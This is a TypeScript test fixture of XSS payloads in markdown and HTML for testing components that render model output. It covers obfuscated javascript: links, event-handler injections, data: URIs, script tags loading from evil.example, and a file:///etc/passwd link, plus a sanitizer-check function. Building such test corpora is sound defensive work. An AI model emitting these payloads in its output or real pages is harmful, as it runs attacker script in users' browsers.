// Hostile model output for tests and stories of any component that renders model text. Each entry
// is one markdown document. Payloads that would run script set `window.__pwned` or call `alert`, so a
// test can trap both. Not part of the public API.

const pwn = 'window.__pwned=1';

const links = [
  // Inline links: scheme spelled in every way a browser would still accept.
  `[inline](javascript:${pwn})`,
  `[mixed case](JaVaScRiPt:${pwn})`,
  `[leading space]( javascript:${pwn})`,
  `[angle destination](<javascript:${pwn}>)`,
  `[with title](javascript:${pwn} "title")`,
  `[decimal entity](&#106;avascript:${pwn})`,
  `[hex entity](&#x6A;avascript:${pwn})`,
  `[padded entities](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${pwn})`,
  `[entity colon](javascript&#58;${pwn})`,
  `[named colon](javascript&colon;${pwn})`,
  `[entity tab in scheme](java&#x09;script:${pwn})`,
  `[entity newline in scheme](java&#x0A;script:${pwn})`,
  `[entity carriage return](java&#x0D;script:${pwn})`,
  `[entity control char](&#x01;javascript:${pwn})`,
  `[entity space first](&#32;javascript:${pwn})`,
  `[raw tab in scheme](java\tscript:${pwn})`,
  `[raw control char](\u0001javascript:${pwn})`,
  `[nul in scheme](java\u0000script:${pwn})`,
  `[percent encoded](%6A%61%76%61%73%63%72%69%70%74:${pwn})`,
  `[vbscript](vbscript:msgbox(1))`,
  `[data html](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[data upper](DATA:text/html,hello)`,
  `[file](file:///etc/passwd)`,
  `[relative](/settings/delete-account)`,
  `[protocol relative](//evil.example/x)`,
  // Reference links, full, collapsed and shortcut.
  `[full reference][evil]\n\n[evil]: javascript:${pwn}`,
  `[collapsed][]\n\n[collapsed]: JAVASCRIPT:${pwn}`,
  `[shortcut]\n\n[shortcut]: <javascript:${pwn}> "t"`,
  // Autolinks.
  `<javascript:${pwn}>`,
  `<JAVASCRIPT:alert(1)>`,
  `<data:text/html,alert(1)>`,
  `<vbscript:msgbox(1)>`,
  `Bare javascript:${pwn} and www.example.com/javascript:alert(1) literals`,
  // Attribute injection through a title.
  `[title break](https://example.com "\\" onmouseover=\\"${pwn}")`,
];

const images = [
  `![inline image](javascript:${pwn})`,
  `![svg data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![title break](https://evil.example/x.png "\\" onerror=\\"${pwn}")`,
  `[![nested image](javascript:alert(1))](javascript:${pwn})`,
  `![reference image][img]\n\n[img]: javascript:${pwn}`,
];

const html = [
  `<script>${pwn}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror="${pwn}">`,
  `<iframe src="javascript:${pwn}"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<svg onload="${pwn}"><circle r="1"/></svg>`,
  `<svg><a xlink:href="javascript:${pwn}"><text y="10">svg link</text></a></svg>`,
  `<a href="javascript:${pwn}">html link</a>`,
  `<a href="https://ok.example" onclick="${pwn}">handler on a safe link</a>`,
  `<div onmouseover="${pwn}">hover me</div>`,
  `<body onload="${pwn}">`,
  `<details open ontoggle="${pwn}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${pwn}">`,
  `<object data="javascript:${pwn}"></object>`,
  `<embed src="javascript:${pwn}">`,
  `<form action="javascript:${pwn}"><button>go</button></form>`,
  `<button formaction="javascript:${pwn}">go</button>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${pwn}">`,
  `<base href="javascript:/">`,
  `<style>body{background:url("javascript:${pwn}")}</style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${pwn}>`,
  `<noscript><p title="</noscript><img src=x onerror=${pwn}>">`,
  `Inline <img src=x onerror=${pwn}> in a sentence`,
  `**<script>${pwn}</script>** in bold`,
  `[<img src=x onerror=${pwn}>](https://example.com)`,
  `<!-- <img src=x onerror=${pwn}> -->`,
];

const containers = [
  `\`\`\`html\n<script>${pwn}</script>\n<img src=x onerror="${pwn}">\n\`\`\``,
  `\`<img src=x onerror=${pwn}>\` in inline code`,
  `| cell | link |\n| --- | --- |\n| <img src=x onerror=${pwn}> | [x](javascript:${pwn}) |\n| <script>${pwn}</script> | <javascript:alert(1)> |`,
  `- [ ] <img src=x onerror=${pwn}>\n- [x] [task](javascript:${pwn})`,
  `> <iframe src="javascript:${pwn}"></iframe>\n> [quoted](javascript:${pwn})`,
  `Footnote[^x]\n\n[^x]: <script>${pwn}</script> [x](javascript:${pwn})`,
  `# <img src=x onerror=${pwn}> heading [h](javascript:${pwn})`,
];

/** Hostile markdown documents: `javascript:`/`data:` links in every link form, raw HTML, event handlers. */
export const xssCorpus: readonly string[] = [...links, ...images, ...html, ...containers];

const urlAttributes = ['href', 'src', 'xlink:href', 'action', 'formaction', 'data', 'srcdoc', 'poster', 'background', 'cite'];
const safeProtocols = new Set(['http:', 'https:', 'mailto:']);
// Elements that run, load or restyle anything. Plain inline SVG is allowed (components draw their
// icons with it); the handler and URL checks cover what an SVG could carry.
const activeTags = new Set(['script', 'iframe', 'frame', 'object', 'embed', 'applet', 'portal', 'form', 'style', 'meta', 'base', 'link', 'foreignobject', 'use']);

function isSafeUrl(value: string): boolean {
  try {
    return safeProtocols.has(new URL(value).protocol);
  } catch {
    return false;
  }
}

/**
 * Describes every piece of markup under `root` that model text must never produce: an `on*`
 * attribute, a URL attribute that is not absolute http/https/mailto, or an element that can run
 * or load code. Empty when the subtree is safe.
 */
export function findUnsafeMarkup(root: Element): string[] {
  const problems: string[] = [];
  for (const element of [root, ...root.querySelectorAll('*')]) {
    const tag = element.tagName.toLowerCase();
    // A StreamingForm's own <form> is ours, not the model's.
    const ownForm = tag === 'form' && element.getAttribute('data-slot') === 'streaming-form';
    if (activeTags.has(tag) && !ownForm) problems.push(`<${tag}> element`);
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`<${tag} ${name}>`);
      if (urlAttributes.includes(name) && !isSafeUrl(attribute.value)) problems.push(`<${tag} ${name}="${attribute.value}">`);
    }
  }
  return problems;
}
